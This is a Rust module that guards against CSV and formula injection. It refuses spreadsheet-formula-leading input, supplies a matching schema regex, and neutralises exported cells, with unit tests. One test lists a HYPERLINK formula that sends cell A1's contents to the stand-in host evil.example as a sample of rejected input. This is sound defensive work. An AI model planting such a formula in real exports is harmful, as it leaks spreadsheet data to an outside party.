//! Free text that contributors type and that staff later open in a spreadsheet.
//!
//! A spreadsheet reads a cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage
//! return as a formula (OWASP, "CSV Injection":
//! <https://owasp.org/www-community/attacks/CSV_Injection>). Two defences, as OWASP
//! recommends:
//! - at input, names, addresses and payout destinations that could start such a cell
//!   are refused with the field error `formula_leading` ([`check`]), so provider upload
//!   files (Wise, PayPal, IRIS) carry validated values unchanged;
//! - every CSV meant for people to open prefixes a formula-leading cell with a single
//!   quote ([`neutralize`]), which also covers values stored before the check existed.

use std::borrow::Cow;

use crate::error::FieldError;

/// The characters OWASP lists as starting a formula.
pub const FORMULA_LEADING: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Whether a spreadsheet could read `value` as a formula: its first character, or its
/// first after leading white space (Unicode's `White_Space`, as `str::trim_start`), is
/// one of [`FORMULA_LEADING`].
pub fn formula_leading(value: &str) -> bool {
    value.starts_with(FORMULA_LEADING) || value.trim_start().starts_with(FORMULA_LEADING)
}

/// The JSON Schema `pattern` of a field [`check`]ed at input: text that is not
/// [`formula_leading`] and holds no U+0000 (`crate::wire`). White space is spelled out
/// as Unicode's `White_Space` list (what `str::trim_start` skips), not `\s`, whose
/// meaning differs between regex engines (ECMA-262 adds U+FEFF, Python U+001C-U+001F).
/// Such a field says `#[schema(pattern = "formula_safe")]` ([`FORMULA_SAFE_MARK`]: utoipa
/// takes a literal only), which `openapi::no_nul_in_strings` replaces with this.
pub const FORMULA_SAFE_MARK: &str = "formula_safe";

/// The pattern [`FORMULA_SAFE_MARK`] stands for.
pub const FORMULA_SAFE: &str = r"^(?:[^\t\n\u000b\u000c\r \u0085\u00a0\u1680\u2000-\u200a\u2028\u2029\u202f\u205f\u3000=+\-@\u0000][^\u0000]*|[\n\u000b\u000c \u0085\u00a0\u1680\u2000-\u200a\u2028\u2029\u202f\u205f\u3000][\t\n\u000b\u000c\r \u0085\u00a0\u1680\u2000-\u200a\u2028\u2029\u202f\u205f\u3000]*(?:[^\t\n\u000b\u000c\r \u0085\u00a0\u1680\u2000-\u200a\u2028\u2029\u202f\u205f\u3000=+\-@\u0000][^\u0000]*)?)?$";

/// The field error for a formula-leading value, if `value` is one.
pub fn check(field: &str, value: &str) -> Option<FieldError> {
    formula_leading(value).then(|| {
        FieldError::new(
            field,
            "formula_leading",
            "must not start with =, +, -, @, a tab or a carriage return (spreadsheets read those as formulas)",
        )
    })
}

/// [`check`] over several optional fields, in order.
pub fn check_all<'a>(fields: impl IntoIterator<Item = (&'a str, Option<&'a str>)>) -> Vec<FieldError> {
    fields.into_iter().filter_map(|(field, value)| value.and_then(|v| check(field, v))).collect()
}

/// A cell for a CSV that people open: a formula-leading value gets a leading single
/// quote, which spreadsheets take as "this is text" (OWASP). Other values are unchanged.
pub fn neutralize(cell: &str) -> Cow<'_, str> {
    if formula_leading(cell) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn owasp_formula_characters_are_refused() {
        for bad in [
            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
            "+1+1",
            "-2+3",
            "@SUM(A1:A9)",
            "\t=1",
            "\r=1",
            "  =1+1",
            "=",
        ] {
            let e = check("full_name", bad).unwrap_or_else(|| panic!("{bad:?} accepted"));
            assert_eq!((e.field.as_str(), e.code.as_str()), ("full_name", "formula_leading"));
        }
        for good in ["Ana Example", "José Ñúñez", "O'Neil", "Mary-Jane Smith", "Dee, Jr", "1 Elm St", "", "a=b"] {
            assert!(check("full_name", good).is_none(), "{good:?} refused");
        }
    }

    /// The schema's pattern and the service's rule agree on every kind of leading text,
    /// Unicode white space among them (the fuzzer's favourite).
    #[test]
    fn the_schema_pattern_is_the_rule() {
        let schema = serde_json::json!({"type": "string", "pattern": FORMULA_SAFE});
        let validator = jsonschema::validator_for(&schema).expect("FORMULA_SAFE is a valid JSON Schema regex");
        let mut cases: Vec<String> = vec![String::new()];
        let starts = [
            " ", "  ", "\n", "\u{2028}", "\u{200a}", "\u{b}", "\u{c}", "\t", "\r", "\u{a0}", "\u{85}", "\u{1c}",
            "\u{3000}", "\u{feff}", "x",
        ];
        let seconds = ["=", "+", "-", "@", "\t", "\r", " ", "a", "\u{a0}", "é", ""];
        for a in starts {
            for b in seconds {
                cases.push(format!("{a}{b}"));
                cases.push(format!("{a}{b}tail"));
            }
        }
        cases.extend(
            ["=", "+1", "-", "@x", "Ana", "a=b", "1 Elm St", "O'Neil", " \t=", " \n@", "\u{a0}=1"].map(String::from),
        );
        for case in &cases {
            assert_eq!(validator.is_valid(&serde_json::json!(case)), !formula_leading(case), "{case:?}");
        }
        assert!(!validator.is_valid(&serde_json::json!("a\u{0}b")), "no NUL either");
    }

    #[test]
    fn check_all_keeps_order_and_skips_absent_fields() {
        let errors = check_all([("a", Some("=1")), ("b", None), ("c", Some("ok")), ("d", Some("@x"))]);
        let fields: Vec<&str> = errors.iter().map(|e| e.field.as_str()).collect();
        assert_eq!(fields, ["a", "d"]);
    }

    #[test]
    fn neutralize_prefixes_a_single_quote() {
        assert_eq!(neutralize("=HYPERLINK(\"x\")"), "'=HYPERLINK(\"x\")");
        assert_eq!(neutralize("-5"), "'-5");
        assert_eq!(neutralize("\t@x"), "'\t@x");
        assert_eq!(neutralize(" =1"), "' =1");
        assert!(matches!(neutralize("Ana"), Cow::Borrowed("Ana")));
        assert_eq!(neutralize("'=1"), "'=1", "already neutral");
    }
}
